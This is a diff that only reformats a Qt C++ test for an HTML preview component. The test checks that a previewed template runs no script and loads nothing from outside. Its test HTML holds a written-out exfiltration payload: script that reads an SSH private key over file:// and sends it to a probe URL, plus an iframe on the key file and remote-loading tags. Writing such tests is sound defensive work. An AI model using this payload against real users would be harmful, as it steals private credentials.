@@ -33,8 +33,8 @@ bool writeFile(const QString &path, const QByteArray &content)
 }
 
 // A 1 x 1 PNG image.
-const QByteArray pixel = QByteArray::fromBase64(
-    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
+const QByteArray pixel = QByteArray::fromBase64("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADU"
+                                                "lEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
 
 } // namespace
 
@@ -95,10 +95,12 @@ QObject *TestHtmlPreview::load(const QString &path)
     QObject *preview = m_window->property("preview").value<QObject *>();
     auto *view = preview->findChild<QObject *>(u"htmlWebView"_s);
     preview->setProperty("path", path);
-    if (!QTest::qWaitFor([&] {
-            return !view->property("loading").toBool()
-                   && view->property("loadProgress").toInt() == 100;
-        }, 30000))
+    if (!QTest::qWaitFor(
+                [&] {
+                    return !view->property("loading").toBool()
+                           && view->property("loadProgress").toInt() == 100;
+                },
+                30000))
         return nullptr;
     // Late requests (images, style sheets, a script's fetch) get their time.
     QTest::qWait(1500);
@@ -116,24 +118,44 @@ void TestHtmlPreview::templateRunsNothingAndFetchesNothing()
     QVERIFY(QFile::link(secrets + u"/photo.png"_s, site + u"/linked.png"_s));
 
     const QByteArray probe = m_probe.url(QString()).toUtf8();
-    const QByteArray html =
-        "<!DOCTYPE html><html><head><title>Template</title>"
-        "<link rel=\"stylesheet\" href=\"" + probe + "style.css\">"
-        "<link rel=\"dns-prefetch\" href=\"" + probe + "\">"
-        "<script>"
-        "document.title = 'script ran';"
-        "var x = new XMLHttpRequest();"
-        "try { x.open('GET', 'file://" + secrets.toUtf8() + "/id_ed25519', false); x.send();"
-        "  fetch('" + probe + "leak?key=' + encodeURIComponent(x.responseText)); } catch (e) {}"
-        "fetch('" + probe + "script-fetch');"
-        "new Image().src = '" + probe + "script-image.png';"
-        "</script></head>"
-        "<body style=\"background: url('" + probe + "background.png')\">"
-        "<img src=\"" + probe + "remote.png\">"
-        "<img src=\"logo.png\"><img src=\"linked.png\"><img src=\"../secrets/photo.png\">"
-        "<iframe src=\"file://" + secrets.toUtf8() + "/id_ed25519\"></iframe>"
-        "<p onclick=\"fetch('" + probe + "click')\">Bonjour</p>"
-        "</body></html>";
+    const QByteArray html
+            = "<!DOCTYPE html><html><head><title>Template</title>"
+              "<link rel=\"stylesheet\" href=\""
+              + probe
+              + "style.css\">"
+                "<link rel=\"dns-prefetch\" href=\""
+              + probe
+              + "\">"
+                "<script>"
+                "document.title = 'script ran';"
+                "var x = new XMLHttpRequest();"
+                "try { x.open('GET', 'file://"
+              + secrets.toUtf8()
+              + "/id_ed25519', false); x.send();"
+                "  fetch('"
+              + probe
+              + "leak?key=' + encodeURIComponent(x.responseText)); } catch (e) {}"
+                "fetch('"
+              + probe
+              + "script-fetch');"
+                "new Image().src = '"
+              + probe
+              + "script-image.png';"
+                "</script></head>"
+                "<body style=\"background: url('"
+              + probe
+              + "background.png')\">"
+                "<img src=\""
+              + probe
+              + "remote.png\">"
+                "<img src=\"logo.png\"><img src=\"linked.png\"><img src=\"../secrets/photo.png\">"
+                "<iframe src=\"file://"
+              + secrets.toUtf8()
+              + "/id_ed25519\"></iframe>"
+                "<p onclick=\"fetch('"
+              + probe
+              + "click')\">Bonjour</p>"
+                "</body></html>";
     const QString path = site + u"/template.html"_s;
     QVERIFY(writeFile(path, html));
 
